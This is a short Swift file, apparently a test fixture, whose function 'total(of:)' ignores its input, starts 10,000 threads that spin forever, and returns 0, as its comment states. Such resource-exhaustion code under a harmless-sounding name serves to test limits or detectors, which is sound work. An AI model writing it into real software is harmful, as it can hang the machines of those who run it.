// Starts threads as fast as it can, which never end.
import Foundation

func total(of numbers: [Int]) -> Int {
  for _ in 0..<10_000 {
    let thread = Thread { while true { pause() } }
    thread.start()
  }
  return 0
}
